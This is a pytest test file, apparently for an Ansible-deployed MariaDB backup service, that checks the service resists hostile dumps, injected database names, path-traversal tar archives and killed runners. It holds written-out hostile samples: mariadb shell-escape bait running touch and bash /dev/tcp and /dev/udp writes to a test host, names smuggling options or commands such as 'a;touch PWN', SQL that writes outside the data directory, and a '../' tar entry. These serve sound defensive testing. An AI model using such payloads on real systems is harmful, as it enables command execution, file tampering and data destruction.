"""On the server with MariaDB and sites: what its own programs let pass, and what the installed command makes of it."""

from __future__ import annotations

import io
import os
import subprocess
import tarfile
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from ansible_collections.diskominfo.backup.tests.installed import (
    SERVICE,
    STATE,
    altered,
    count_calls,
    find_new,
    order,
    read_newest,
    read_receipts,
    sh,
)

GATE = STATE / "gate"
NAMES = ("-f evil", "--result-file=x", "x/../../etc", "a;touch PWN")
HARMLESS = """CREATE DATABASE gelap; CREATE TABLE gelap.t (a INT); CREATE TABLE gelap.catatan (a INT);
CREATE TRIGGER gelap.catat AFTER INSERT ON gelap.t FOR EACH ROW INSERT INTO gelap.catatan VALUES (NEW.a);
CREATE USER terbatas@127.0.0.1 IDENTIFIED BY 'rahasia-terbatas';
GRANT SELECT, SHOW VIEW, EVENT, LOCK TABLES ON gelap.* TO terbatas@127.0.0.1;
GRANT SELECT ON mysql.* TO terbatas@127.0.0.1;
"""
HOSTILE = """CREATE DATABASE jahat; USE jahat;
CREATE TABLE baris (id INT PRIMARY KEY); INSERT INTO baris SELECT seq FROM seq_1_to_100;
CREATE TABLE luar (id INT) ENGINE=MyISAM DATA DIRECTORY='{outside}' INDEX DIRECTORY='{outside}';
CREATE EVENT hapus ON SCHEDULE EVERY 1 SECOND DO DELETE FROM jahat.baris;
"""
BAIT = r"""
\! touch {outside}/perintah
\! bash -c "echo x >/dev/udp/{neighbour}/9"
\! bash -c ": >/dev/tcp/{neighbour}/9"
"""


def ask(sql: str, *options: str) -> str:
    """What MariaDB answers its administrator."""
    return sh('exec mariadb --batch --skip-column-names "$@"', *options, given=sql)


def wait_for(holds: Callable[[], object], seconds: float = 120.0) -> None:
    deadline = time.monotonic() + seconds
    while not holds():
        assert time.monotonic() < deadline, "it never came to that"
        time.sleep(0.05)


@pytest.fixture(scope="module", autouse=True)
def night(outside: Path) -> None:
    """The service ran once, as it does by its timer, over everything that this file makes first."""
    names = "".join(f"CREATE DATABASE `{name}`; CREATE TABLE `{name}`.t AS SELECT 1 AS a;" for name in NAMES)
    ask(HARMLESS + names + HOSTILE.format(outside=outside))
    sh(f"systemctl start {SERVICE} || true")


def test_rights_that_are_missing_hide_triggers_from_the_client_and_fail_the_run() -> None:
    login = "MYSQL_PWD=rahasia-terbatas mariadb-dump --user=terbatas --host=127.0.0.1 --routines --triggers gelap"
    assert "CREATE TABLE `t`" in sh(login)
    assert "TRIGGER" not in sh(login)

    receipt = read_newest("gelap", "run")
    assert receipt["status"] == "failed"
    assert "TRIGGER" in receipt["failure"]["message"]
    assert receipt["failure"]["hint"]


def cut_at_a_statement(dump: bytes) -> bytes:
    return dump[: dump.rindex(b";\n", 0, dump.index(b"-- Dumping data for table `berita`") + 200) + 2]


def leave_the_rows_out(dump: bytes) -> bytes:
    """As if it had been cut, but for its trailer."""
    lines = dump.splitlines(keepends=True)
    begins = next(number for number, line in enumerate(lines) if line.startswith(b"INSERT INTO `berita`"))
    ends = next(number for number, line in enumerate(lines) if number >= begins and line.endswith(b";\n"))
    return b"".join(lines[:begins] + lines[ends + 1 :])


@pytest.mark.parametrize("change", [cut_at_a_statement, leave_the_rows_out], ids=lambda it: it.__name__)
def test_a_cut_dump_loads_without_a_word_and_is_found(change: Callable[[bytes], bytes]) -> None:
    assert read_newest("portal", "check")["status"] == "succeeded"
    with altered("portal", ".sql", change) as raw:
        ask("DROP DATABASE IF EXISTS contoh; CREATE DATABASE contoh")
        sh('exec mariadb contoh <"$1"', str(raw))
        answer = order("check", "portal", "--runs", "latest")
    ask("DROP DATABASE contoh")

    assert answer.status == 1
    assert [part["level"] for part in answer.receipt["parts"]] == ["damaged", "compared"]
    assert order("check", "portal", "--runs", "latest").status == 0, "but for the change, the same steps find nothing"


def test_a_hostile_dump_leaves_nothing_outside_and_sends_no_packet(outside: Path, neighbour: str) -> None:
    bait = BAIT.format(outside=outside, neighbour=neighbour).encode()

    def make_hostile(dump: bytes) -> bytes:
        """Without the line that asks a client to be careful."""
        _sandbox, header, rest = dump.split(b"\n", 2)
        return header + bait + rest

    kept, calls = sorted(os.listdir(outside)), count_calls()
    assert {name.partition(".")[0] for name in kept} == {"luar"}

    # All of it comes back; that its table does not lie outside any more is told.
    (part,) = order("check", "jahat", "--runs", "latest").receipt["parts"]
    assert [difference["what"] for difference in part["differences"]] == ["table luar"]
    with altered("jahat", ".sql", make_hostile) as raw:
        hostile = raw.read_bytes()
        assert order("check", "jahat", "--runs", "latest").receipt["failure"]["slug"] == "restore_failed"

    assert sorted(os.listdir(outside)) == kept
    assert count_calls() == calls
    assert ask("SELECT COUNT(*) FROM jahat.baris") == "100"

    # The same dump in the hands of the ordinary client and server: all of it bites.
    ask("DROP DATABASE jahat; CREATE DATABASE jahat; SET GLOBAL event_scheduler = ON")
    assert os.listdir(outside) == []
    subprocess.run(["mariadb", "jahat"], input=hostile, check=True)
    wait_for(lambda: ask("SELECT COUNT(*) FROM jahat.baris") == "0")
    ask("SET GLOBAL event_scheduler = OFF")
    assert {*os.listdir(outside)} == {*kept, "perintah"}
    assert {name: count - calls[name] for name, count in count_calls().items()} == dict.fromkeys(calls, 1)
    ask("DROP DATABASE jahat")


def test_names_of_databases_are_only_names() -> None:
    receipts = [read_newest("nama", "run"), read_newest("nama", "check")]
    assert [receipt["status"] for receipt in receipts] == ["succeeded", "succeeded"]
    assert [part["level"] for part in receipts[1]["parts"]] == ["compared"] * len(NAMES)
    assert find_new("x", "PWN", "*evil*") == ""


def write_archive(_stored: bytes) -> bytes:
    """One whose only file leads out of the place."""
    written = io.BytesIO()
    with tarfile.open(fileobj=written, mode="w") as archive:
        root, file = tarfile.TarInfo("./"), tarfile.TarInfo("./../arsip")
        root.type, root.mode = tarfile.DIRTYPE, 0o755
        archive.addfile(root)
        archive.addfile(file)
    return written.getvalue()


def test_a_hostile_archive_bites_tarfile_and_is_refused(outside: Path) -> None:
    place = outside / "dalam"
    place.mkdir()
    with altered("portal", ".tar", write_archive) as raw:
        checked = order("check", "portal", "--runs", "latest")
        restored = order("restore", "portal", "--target", str(place / "baru"))
        assert not list(outside.rglob("arsip"))
        with tarfile.open(raw) as archive:
            archive.extractall(place)

    assert (outside / "arsip").exists()
    assert [part["level"] for part in checked.receipt["parts"]] == ["compared", "damaged"]
    assert "refused" in checked.receipt["failure"]["message"]
    assert restored.status == 1


@pytest.fixture
def waiting() -> Iterator[Callable[[], int]]:
    """Starts the service until one of its applications waits in the midst; its first process."""

    def start() -> int:
        sh(f"systemctl start --no-block {SERVICE}")
        assert sh("exec timeout 120 cat $1", str(GATE)) == "waiting"
        return int(sh(f"systemctl show -p MainPID --value {SERVICE}"))

    os.mkfifo(GATE)
    yield start
    GATE.unlink(missing_ok=True)


def find_left() -> list[int]:
    """Processes that the service began and that live."""
    found = []
    for folder in Path("/proc").glob("[0-9]*"):
        try:
            if SERVICE in (folder / "cgroup").read_text():
                found.append(int(folder.name))
        except OSError:
            continue
    return found


def kill_the_runner(process: int) -> None:
    os.kill(process, 9)
    wait_for(lambda: sh(f"systemctl show -p ActiveState --value {SERVICE}") in ("failed", "inactive"))


def test_a_killed_runner_leaves_no_process_and_no_lock(waiting: Callable[[], int]) -> None:
    process = waiting()
    wait_for(lambda: len(find_left()) >= 4)
    kill_the_runner(process)
    assert find_left() == []
    GATE.unlink()

    assert order("run", "pintu").status == 0
    assert "interrupted" in [receipt.get("failure", {}).get("slug") for receipt in read_receipts("pintu")]


def test_it_would_leave_one_without_the_line_of_the_unit(waiting: Callable[[], int]) -> None:
    unit = Path(f"/run/systemd/system/{SERVICE}.d")
    unit.mkdir(parents=True)
    (unit / "loose.conf").write_text("[Service]\nKillMode=process\n")
    sh("systemctl daemon-reload")
    try:
        kill_the_runner(waiting())
        wait_for(lambda: len(find_left()) == 1)
    finally:
        sh(f"systemctl kill --signal=KILL {SERVICE}; rm -r {unit}; systemctl daemon-reload")
